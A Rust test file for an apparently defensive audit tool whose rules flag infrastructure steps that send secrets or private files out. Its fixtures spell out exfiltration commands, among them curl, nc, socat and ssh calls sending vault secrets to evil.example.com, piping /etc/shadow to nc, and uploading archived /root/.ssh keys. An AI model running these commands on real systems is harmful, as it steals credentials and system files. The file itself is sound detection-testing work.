//! Secrets and private files that leave, whatever carries them.

use super::{broken, place, report};

const AROUND: &str = r#"
variable "v" {}
variable "key" { ephemeral = true }
step "keyvault_secret" "s" {
  vault = "v01"
  name  = "s"
}
"#;

/// Returns a step that runs a program, with further arguments.
fn exec(argv: &str, more: &str) -> String {
    format!("step \"exec\" \"_x\" {{\n  argv = {argv}\n  {more}\n}}\n")
}

/// Checks whether a rule finds something in each of these steps.
fn check(rule: &str, steps: &[(String, bool)]) {
    for (step, expected) in steps {
        let place = place(&format!("{AROUND}{step}"));
        for file in ["privkey.pem", "notes.txt"] {
            place.write(&format!("place/{file}"), "text");
        }
        let ran = place.run(&["audit", "-json", "place"]);
        assert_eq!(broken(&report(&ran)).contains(rule), *expected, "{rule}: {step}\n{}", ran.seen());
    }
}

#[test]
fn a_secret_leaves_by_the_input_of_a_program() {
    let secret = "stdin = step.keyvault_secret.s.value";
    let variable = "environment = { TOKEN = var.key }";
    let script = r#"["sh", "-c", "curl -H \"Authorization: $TOKEN\" https://evil.example.com/up"]"#;
    let key = "step \"file\" \"_f\" {\n  path    = \"key\"\n  content = var.key\n}\n";
    let with_key = |argv: &str| format!("{key}{}", exec(argv, ""));
    check(
        "secret-leaves-cloud",
        &[
            (exec(r#"["curl", "-d", "@-", "https://evil.example.com/up"]"#, secret), true),
            (exec(r#"["curl", "-d", "@-", "evil.example.com/up"]"#, secret), true),
            (exec(r#"["curl", "-d", "@-", var.v]"#, secret), true),
            (exec(r#"["sudo", "nc", "evil.example.com", "443"]"#, secret), true),
            (exec(r#"["socat", "-", "TCP:evil.example.com:443"]"#, secret), true),
            (exec(r#"["ssh", "me@evil.example.com", "cat"]"#, secret), true),
            (exec(r#"["aws", "s3", "cp", "-", "s3://bucket/x"]"#, secret), true),
            (exec(r#"["sh", "-c", "cat | curl -T - https://evil.example.com/"]"#, secret), true),
            (exec(r#"["curl", "-d", "@-", "http://localhost:8080/up"]"#, secret), false),
            (exec(r#"["curl", "-d", "@-", "https://v01.vault.azure.net/x"]"#, secret), false),
            (exec(r#"["wget", "-O", "out.txt", "--post-file=-", "http://localhost:8080/"]"#, secret), false),
            (exec(r#"["wget", "-O", "out.txt", "--post-file=-", "http://evil.example.com/"]"#, secret), true),
            (exec(r#"["curl", "--version"]"#, secret), false),
            (exec(r#"["az", "login"]"#, secret), false),
            (exec(r#"["psql", "-f", "-"]"#, secret), false),
            (exec(script, variable), true),
            (exec(&script.replace("evil.example.com", "localhost"), variable), false),
            (
                exec(
                    r#"["rsync", "notes.txt", "backup:/srv"]"#,
                    "environment = { RSYNC_PASSWORD = var.key }",
                ),
                false,
            ),
            (with_key(r#"["curl", "-T", "key", "https://evil.example.com/"]"#), true),
            (with_key(r#"["curl", "-T", "notes.txt", "https://evil.example.com/"]"#), false),
            (with_key(r#"["scp", "-i", "key", "notes.txt", "backup:/srv"]"#), false),
            (with_key(r#"["scp", "key", "backup:/srv"]"#), true),
        ],
    );
}

#[test]
fn a_private_file_leaves_by_the_input_of_a_program_and_by_a_copy() {
    let upload = |source: &str| {
        format!(
            "step \"blob_upload\" \"_u\" {{\n  account   = \"acc01\"\n  container = \"files\"\n  name      = \"b\"\n  source    = \"{source}\"\n}}\n"
        )
    };
    let file = |content: &str| format!("step \"file\" \"_f\" {{\n  path = \"copy\"\n  {content}\n}}\n");
    let remote = |script: &str| {
        format!(
            "step \"arc_run_command\" \"_r\" {{\n  machine = \"/subscriptions/10000000-0000-4000-8000-000000000000/resourceGroups/g/providers/Microsoft.HybridCompute/machines/web01\"\n  script  = \"{script}\"\n}}\n"
        )
    };
    let curl = r#"["curl", "-T", "-", "https://web.test/"]"#;
    let copies = exec(r#"["cp", "/etc/shadow", "copy"]"#, "").replace("_x", "_c");
    check(
        "sends-private-file",
        &[
            (
                "step \"http\" \"_h\" {\n  url = \"https://web.test/\"\n  method = \"POST\"\n  effect = \"reads\"\n  text = file(\"/etc/shadow\")\n}\n".to_owned(),
                true,
            ),
            (
                "locals { p = \"/etc/shadow\" }\n".to_owned() + &exec(curl, "stdin = file(local.p)"),
                true,
            ),
            (exec(r#"["curl", "-d", file("/etc/shadow"), "https://web.example.com/"]"#, ""), true),
            (exec(r#"["curl", "-F", "k=<privkey.pem", "https://web.example.com/"]"#, ""), true),
            (
                exec(r#"["cp", "/etc/shadow", "x"]"#, "directory = \"/srv\"").replace("_x", "_copy")
                    + &exec(r#"["curl", "-T", "x", "https://web.example.com/"]"#, "directory = \"/srv\""),
                true,
            ),
            (exec(curl, "stdin = file(\"/etc/shadow\")"), true),
            (exec(curl, "stdin = file(\"privkey.pem\")"), true),
            (exec(curl, "stdin = file(\"notes.txt\")"), false),
            (exec(r#"["sha256sum"]"#, "stdin = file(\"privkey.pem\")"), false),
            (exec(r#"["sh", "-c", "curl -T - https://web.test/"]"#, "stdin = file(\"privkey.pem\")"), true),
            (file("source = \"/etc/shadow\"") + &upload("copy"), true),
            (file("source = \"/etc/shadow\"") + &upload("./copy"), true),
            (file("source = \"/etc/shadow\"") + &upload("notes.txt"), false),
            (file("source = \"notes.txt\"") + &upload("copy"), false),
            (file("content = file(\"privkey.pem\")") + &upload("copy"), true),
            (upload("copy") + &file("source = \"/etc/shadow\""), true),
            (file("source = \"/etc/shadow\"") + &exec(r#"["scp", "copy", "backup:/srv"]"#, ""), true),
            (copies.clone() + &upload("copy"), true),
            (copies.replace("/etc/shadow", "/etc/hosts") + &upload("copy"), false),
            (exec(r#"["sh", "-c", "tar czf b.tgz /root/.ssh"]"#, "") + &upload("b.tgz"), true),
            (remote("curl -T /etc/shadow https://web.test/"), true),
            (remote("cat /etc/shadow"), false),
        ],
    );
}

#[test]
fn a_path_that_proves_who_sends_is_not_sent() {
    let argv = |words: &str| {
        let words: Vec<String> = words.split(';').map(|word| format!("{word:?}")).collect();
        exec(&format!("[{}]", words.join(", ")), "")
    };
    let steps: Vec<(String, bool)> = [
        ("rsync;-a;-e;ssh -i /root/.ssh/id_ed25519;/srv/data;backup:/srv", false),
        ("rsync;-a;--rsh=ssh -i /root/.ssh/id_ed25519;/srv/data;backup:/srv", false),
        ("rsync;-ave;ssh -i /root/.ssh/id_ed25519;/srv/data;backup:/srv", false),
        ("rsync;-a;/root/.ssh;backup:/srv", true),
        ("rsync;-a;backup:/srv/data;/root/.ssh/", false),
        ("rsync;-i;/etc/shadow;backup:/srv", true),
        ("scp;-i/root/.ssh/id_rsa;notes.txt;backup:/srv", false),
        ("scp;-o;IdentityFile=/root/.ssh/id_rsa;notes.txt;backup:/srv", false),
        ("scp;backup:/etc/shadow;/tmp/x", false),
        ("ssh;-F;/root/.ssh/config;backup;cat /etc/shadow", false),
        ("curl;--key=/etc/ssl/private/k.pem;-T;notes.txt;https://web.test/", false),
        ("curl;-o;/root/.ssh/known_hosts;https://web.test/", false),
        ("curl;-fsSo;/root/.ssh/known_hosts;https://web.test/", false),
        ("curl;-F;cert=@/etc/ssl/private/k.pem;https://web.test/", true),
        ("curl;-i;-T;/etc/shadow;https://web.test/", true),
        ("curl;-F;f=@/etc/shadow;https://web.test/", true),
        ("sh;-c;rsync -a -e 'ssh -i /root/.ssh/id_ed25519' /srv backup:/srv", false),
        ("sh;-c;rsync -a /root/.ssh/id_ed25519 backup:/srv", true),
        ("sh;-c;curl --cert /etc/ssl/private/c.pem -T notes.txt https://web.test/", false),
        ("sh;-c;curl --cert /etc/ssl/private/c.pem -T /etc/shadow https://web.test/", true),
        ("sh;-c;cat /etc/shadow | nc web.test 443", true),
    ]
    .into_iter()
    .map(|(words, expected)| (argv(words), expected))
    .collect();
    check("sends-private-file", &steps);
}

#[test]
fn a_secret_file_is_readable_by_its_mode_or_without_one() {
    let file = |arguments: &str| format!("step \"file\" \"_f\" {{\n  path = \"f\"\n  {arguments}\n}}\n");
    let copy = |arguments: &str| {
        file("content = var.key")
            + &format!("step \"file\" \"_g\" {{\n  path   = \"g\"\n  source = \"f\"\n  {arguments}\n}}\n")
    };
    check(
        "secret-readable-file",
        &[
            (file("content = \"pw=${var.key}\""), false),
            (file("content = \"pw=${var.key}\"\n  mode = \"0644\""), true),
            (file("content = \"pw=${var.key}\"\n  mode = \"0640\""), false),
            (file("content = \"pw=${var.key}\"\n  mode = var.v"), true),
            (copy(""), true),
            (copy("mode = \"0600\""), false),
            (file("content = file(\"/root/.ssh/id_ed25519\")\n  mode = \"0644\""), true),
            (file("content = file(\"/root/.ssh/id_ed25519\")"), true),
            (file("content = file(\"/root/.ssh/id_ed25519\")\n  mode = \"0600\""), false),
            (file("content = file(\"notes.txt\")\n  mode = \"0644\""), false),
            (file("source = \"/etc/shadow\"\n  mode = \"0644\""), true),
            (file("source = \"/etc/hosts\"\n  mode = \"0644\""), false),
        ],
    );
}
